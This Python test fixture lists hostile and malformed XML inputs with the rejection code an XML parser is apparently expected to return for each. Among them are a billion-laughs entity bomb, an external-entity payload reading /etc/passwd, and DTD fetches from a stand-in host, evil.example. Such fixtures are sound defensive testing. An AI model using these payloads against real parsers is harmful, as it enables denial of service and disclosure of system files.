"""XML that has hurt somebody's parser, and what Misto says of each."""

from __future__ import annotations

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(
        f'<!ENTITY {new} "{f"&{old};" * 10}">'
        for old, new in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]><alert>&i;</alert>"
).encode()

HOSTILE_XML: dict[str, tuple[bytes, str]] = {
    "billion laughs": (LAUGHS, "xml_doctype"),
    "external entity": (
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "xml_doctype"
    ),
    "parameter entity": (
        b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>', "xml_doctype"
    ),
    "external type": (b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>', "xml_doctype"),
    "type in utf-16": (
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode(
            "utf-16"
        ),
        "xml_doctype",
    ),
    "undeclared entity": (b"<a>&x;</a>", "xml_broken"),
    "50 MB": (b"<a>" + b" " * 50_000_000 + b"</a>", "too_large"),
    "deep": (b"<a>" * 100_000 + b"</a>" * 100_000, "xml_deep"),
    "many elements": (b"<a>" + b"<b/>" * 60_000 + b"</a>", "xml_many"),
    "many attributes": (
        b"<a " + b" ".join(b'x%d="1"' % each for each in range(1_000)) + b"/>", "xml_many"
    ),
    "unclosed": (b"<a><b></a>", "xml_broken"),
    "two roots": (b"<a/><b/>", "xml_broken"),
    "no XML": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "xml_broken"),
    "JSON": (b'{"a": 1}', "xml_broken"),
    "empty": (b"", "empty"),
    "white space": (b" \n\t ", "empty"),
    "a codec of another sort": (b'<?xml version="1.0" encoding="punycode"?><a/>', "xml_encoding"),
    "a codec nobody has": (b'<?xml version="1.0" encoding="evil"?><a/>', "xml_encoding"),
    "utf-7": (b'<?xml version="1.0" encoding="utf-7"?><a>+ADw-b/+AD4-</a>', "xml_encoding"),
    "not the encoding it says": ('<?xml version="1.0" encoding="utf-8"?><a>б</a>'.encode("cp1251"),
                                 "xml_broken"),
    "utf-16 in name only": (b'<?xml version="1.0" encoding="utf-16"?><a/>', "xml_broken"),
    "null character": (b"<a>&#0;</a>", "xml_broken"),
    "unbound prefix": (b"<x:a/>", "xml_broken"),
}  # fmt: skip
